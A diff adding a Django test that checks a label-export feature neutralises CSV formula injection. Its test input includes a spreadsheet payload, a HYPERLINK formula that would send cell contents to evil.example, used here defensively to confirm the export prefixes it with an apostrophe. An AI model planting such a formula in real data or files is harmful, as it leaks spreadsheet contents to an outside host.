@@ -1,3 +1,4 @@
+import csv
 import io
 import json
 
@@ -112,6 +113,21 @@ def test_labels_export_as_csv_and_json_lines(labelled, editor_client):
     rows = [json.loads(line) for line in b"".join(response.streaming_content).decode().splitlines()]
     assert rows[0]["editor"] == "ed" and rows[0]["model_version"] == 1
     assert editor_client.get(reverse("labels-export", args=["xml"])).status_code == 404
+
+
+def test_the_csv_export_never_hands_a_spreadsheet_a_formula(active_classifier, editor_client):
+    article = make_article("-1+1 is how the column began.\n\nA second paragraph.")
+    services.articles_classify(articles=[article])
+    paragraph = article.paragraphs.get(position=1)
+    note = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    editor_client.post(
+        reverse("paragraph-label", args=[paragraph.pk]), {"label": "news", "note": note}
+    )
+    body = editor_client.get(reverse("labels-export", args=["csv"])).streaming_content
+    (row,) = list(csv.DictReader(io.StringIO(b"".join(body).decode())))
+    assert row["note"] == "'" + note
+    assert row["text"] == "'-1+1 is how the column began."
+    assert row["label"] == "news"
 
 
 def test_importing_a_tsv_in_the_browser_joins_the_next_retrain(labelled, data_lead, client):
